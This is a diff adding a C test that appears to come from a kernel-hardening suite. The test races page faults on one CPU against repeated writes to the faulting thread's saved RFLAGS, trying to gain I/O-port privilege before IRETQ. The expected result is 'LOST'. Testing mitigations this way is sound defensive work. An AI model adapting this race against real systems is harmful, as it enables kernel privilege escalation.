@@ -1,0 +1,62 @@
+// SPDX-License-Identifier: GPL-2.0-only
+#include "registers.h"
+#include "thread.h"
+
+ATTACK("shadow_stack", "leave_race", "LOST",
+       "While a thread takes one page fault after the other, another one of the same program on "
+       "another processor writes flags with a privilege level over its registers, again and "
+       "again, to hit the moment between the kernel's correction and IRETQ.",
+       "A program whose page tables are shared goes back by words in sealed memory: what IRETQ "
+       "reads has been corrected, and stands where nobody can write.",
+       "The program may use the ports of all devices.");
+
+#define FAULTS (256l << 12)
+#define POKES 2000000
+
+static volatile uint32_t reader_id;
+static volatile bool has_ports;
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+/* Comes back from each fault with the flags that IRETQ has read. */
+static void fault_and_see(void)
+{
+	const long area = call6(__NR_mmap, 0, FAULTS, PROT_READ | PROT_WRITE,
+				MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	(void)own_cpu(1);
+	reader_id = (uint32_t)call0(__NR_gettid);
+	for (;;) {
+		for (long offset = 0; offset < FAULTS && !has_ports; offset += 4096) {
+			*(volatile char *)(area + offset) = 1;
+			has_ports = (flags_now() & PORTS) == PORTS;
+		}
+		if (has_ports)
+			say_result("WON");
+		call3(__NR_madvise, area, FAULTS, MADV_DONTNEED);
+	}
+}
+
+static bool fire(void)
+{
+	const uint64_t task = own_task();
+	uint64_t flags, value;
+
+	(void)own_cpu(0);
+	start_thread(fault_and_see);
+	while (!reader_id)
+		sleep_milliseconds(10);
+	flags = own_registers(thread_task(task, reader_id)) + member("arch_frame.rflags");
+	value = peek(flags) | FLAG_INTERRUPT | PORTS;
+	for (unsigned int i = 0; i < POKES && !has_ports; i++)
+		poke(flags, value);
+	return false;
+}
+
+static void victim(void)
+{
+	victim_waits();
+}
